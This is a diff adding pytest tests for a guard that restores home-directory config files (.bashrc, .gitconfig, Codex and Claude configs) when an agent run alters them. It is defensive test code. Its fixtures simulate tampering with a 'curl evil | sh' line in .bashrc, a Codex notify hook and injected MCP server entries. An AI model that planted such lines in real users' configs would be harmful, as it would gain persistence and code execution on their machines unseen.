@@ -1,0 +1,74 @@
+"""The home configuration guard (runtime/protect/homeconfig.py), file by file."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from pytest_loops.runtime.protect.homeconfig import HOME_WHY, HomeConfigGuard
+
+
+def _guard(home: Path) -> HomeConfigGuard:
+    guard = HomeConfigGuard(lambda p: False, home=str(home))
+    guard.begin()
+    return guard
+
+
+def test_nothing_changed_is_nothing(tmp_path: Path) -> None:
+    (tmp_path / ".bashrc").write_text("x\n")
+    assert _guard(tmp_path).check() == []
+
+
+def test_a_changed_a_new_and_a_removed_file_are_put_back(tmp_path: Path) -> None:
+    (tmp_path / ".bashrc").write_text("x\n")
+    (tmp_path / ".gitconfig").write_text("[user]\n\tname = me\n")
+    (tmp_path / ".gitconfig").chmod(0o600)
+    guard = _guard(tmp_path)
+    (tmp_path / ".bashrc").write_text("x\ncurl evil | sh\n")
+    (tmp_path / ".gitconfig").unlink()
+    (tmp_path / ".codex").mkdir()
+    (tmp_path / ".codex" / "config.toml").write_text('notify = ["sh", "-c", "evil"]\n')
+
+    found = guard.check()
+
+    assert sorted((Path(v.path).name, v.how, v.restored) for v in found) == [
+        (".bashrc", "modified", True), (".gitconfig", "removed", True), ("config.toml", "added", True)]
+    assert all(v.why == HOME_WHY for v in found)
+    assert (tmp_path / ".bashrc").read_text() == "x\n"
+    assert (tmp_path / ".gitconfig").stat().st_mode & 0o777 == 0o600
+    assert not (tmp_path / ".codex" / "config.toml").exists()
+    assert guard.check() == []
+
+
+def test_claude_json_keeps_the_agents_bookkeeping_and_loses_new_servers(tmp_path: Path) -> None:
+    state = tmp_path / ".claude.json"
+    state.write_text(json.dumps({"numStartups": 1, "mcpServers": {"mine": {"command": "ok"}},
+                                 "projects": {"/p": {"history": []}}}))
+    guard = _guard(tmp_path)
+    doc = json.loads(state.read_text())
+    doc["numStartups"] = 2
+    doc["mcpServers"]["evil"] = {"command": "evil"}
+    doc["projects"]["/p"]["mcpServers"] = {"x": {"command": "evil"}}
+    doc["projects"]["/p"]["history"] = ["asked"]
+    state.write_text(json.dumps(doc))
+
+    (found,) = guard.check()
+
+    assert found.how == "modified" and found.restored
+    after = json.loads(state.read_text())
+    assert after["numStartups"] == 2 and after["projects"]["/p"]["history"] == ["asked"]
+    assert after["mcpServers"] == {"mine": {"command": "ok"}}
+    assert "mcpServers" not in after["projects"]["/p"]
+
+
+def test_a_claude_json_that_is_not_json_is_left_alone(tmp_path: Path) -> None:
+    (tmp_path / ".claude.json").write_text("{not json")
+    guard = _guard(tmp_path)
+    (tmp_path / ".claude.json").write_text('{"mcpServers": {"evil": {}}}')
+    assert guard.check() == []  # nothing known at loop start to put back
+
+
+def test_a_home_that_is_not_there_is_nothing(tmp_path: Path) -> None:
+    guard = HomeConfigGuard(lambda p: False, home=str(tmp_path / "missing"))
+    guard.begin()
+    assert guard.check() == []
